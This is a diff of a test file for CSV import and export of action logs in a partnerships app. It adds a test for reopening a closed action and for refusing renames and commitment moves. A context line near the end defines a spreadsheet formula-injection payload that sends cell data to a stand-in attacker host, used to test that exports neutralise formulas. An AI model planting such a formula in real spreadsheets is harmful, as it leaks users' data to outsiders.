@@ -273,6 +273,32 @@ describe('spreadsheet action logs: import-actions, importActions and the CSV exp
       expect(after.find((row) => row['External id'] === 'LLR-5')!['What more is to be done']).toBe('Mobile clinics in the three wards until March');
     });
 
+    it('reopens a closed action given an open status; refuses other changes to it, a rename and a move to another commitment', async () => {
+      const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
+      const refused = await importActions({
+        partnershipId: llrId,
+        csv: edited(csv, {
+          'LLR-9': (cells) => (cells[4] = '2021-12-31'),
+          'LLR-8': (cells) => (cells[2] = 'A renamed action'),
+          'LLR-2': (cells) => (cells[1] = 'Action 9: Anchor institutions'),
+        }),
+      });
+      const problems = refused.data!.importActions.rows.flatMap((row: any) => row.problems.map((problem: any) => [row.externalId, problem.column, problem.rule]));
+      expect(problems).toEqual([
+        ['LLR-9', 'Status', 'open'],
+        ['LLR-2', 'Commitment', 'unchanged'],
+        ['LLR-8', 'Action', 'unchanged'],
+      ].sort((a, b) => csv.indexOf(`${a[0]},`) - csv.indexOf(`${b[0]},`)));
+      expect(refused.data!.importActions.applied).toBe(false);
+
+      const reopened = await importActions({ partnershipId: llrId, csv: edited(csv, { 'LLR-9': (cells) => ((cells[5] = 'On track'), (cells[6] = 'Reopened: the audit found gaps in purchasing')) }) });
+      expect(reopened.data!.importActions.rows.find((row: any) => row.externalId === 'LLR-9')).toMatchObject({
+        outcome: 'CHANGED',
+        changes: ['reopen (was COMPLETED)', 'update: COMPLETED → ON_TRACK'],
+        action: { status: 'ON_TRACK' },
+      });
+    });
+
     it('neutralises a formula on export, and reads it back unchanged', async () => {
       const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
       const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
